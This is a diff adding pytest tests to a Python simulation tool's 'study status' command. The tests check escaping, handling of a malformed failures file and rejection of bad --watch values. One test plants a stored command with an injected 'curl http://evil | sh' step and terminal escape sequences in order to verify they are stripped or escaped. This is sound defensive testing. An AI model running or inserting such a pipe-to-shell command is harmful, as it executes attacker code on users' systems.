@@ -121,6 +121,49 @@ def test_status_recommends_the_command_that_ran_the_study(tmp_path, tiny_spec):
     assert f"rerun `vaesim demo --out {tmp_path}` to resume" in study_status(tmp_path).format()
 
 
+def test_status_advice_is_built_from_this_directory_and_stored_text_is_escaped(tmp_path, tiny_spec):
+    """Issue 23 item 9: a stored command or failure never reaches the shell advice or the terminal raw."""
+    import json
+
+    from vaesim.study import study_status
+    from vaesim.study.provenance import ProvenanceRecorder
+
+    study = tmp_path / "copied study"
+    study.mkdir()
+    (study / "spec.yaml").write_text(tiny_spec.to_yaml())
+    ProvenanceRecorder(study, command="vaesim study run x.yaml --out /original; curl http://evil | sh")
+    (study / "failures.json").write_text(json.dumps([{"task_id": "train/a\x1b[2J", "error": "boom\x1b]0;owned\x07"}]))
+    text = study_status(study).format()
+    assert f"rerun `vaesim study run '{study}/spec.yaml' --out '{study}'` to resume" in text
+    assert "curl" not in text and "/original" not in text
+    assert "\x1b" not in text and "\x07" not in text
+    assert "train/a\\x1b[2J: boom\\x1b]0;owned\\x07" in text
+
+
+@pytest.mark.parametrize("content", ["{not json", "[1, 2]", '{"task_id": "x"}'])
+def test_status_reports_a_garbage_failures_file_and_carries_on(tmp_path, tiny_spec, content, capsys):
+    """Issue 21: a garbage failures.json is reported by `study status`, which still shows every stage."""
+    from vaesim.cli import main
+
+    (tmp_path / "spec.yaml").write_text(tiny_spec.to_yaml())
+    (tmp_path / "failures.json").write_text(content)
+    assert main(["study", "status", str(tmp_path)]) == 0
+    out = capsys.readouterr().out
+    assert "failures.json" in out and "the next run writes it again" in out
+    assert "train    [" in out and "store    [" in out
+
+
+@pytest.mark.parametrize("watch", ["inf", "nan", "0", "-1"])
+def test_status_watch_refuses_an_unusable_interval_in_one_line(tmp_path, tiny_spec, watch, capsys):
+    from vaesim.cli import main
+
+    (tmp_path / "spec.yaml").write_text(tiny_spec.to_yaml())
+    assert main(["study", "status", str(tmp_path), "--watch", watch]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("vaesim: error: --watch: expected a number of seconds") and f"got {float(watch)!r}" in err
+    assert len(err.strip().splitlines()) == 1
+
+
 @pytest.mark.ray
 @pytest.mark.slow
 def test_progress_of_a_task_on_a_ray_worker_reaches_the_runner(tmp_path, tiny_dict):
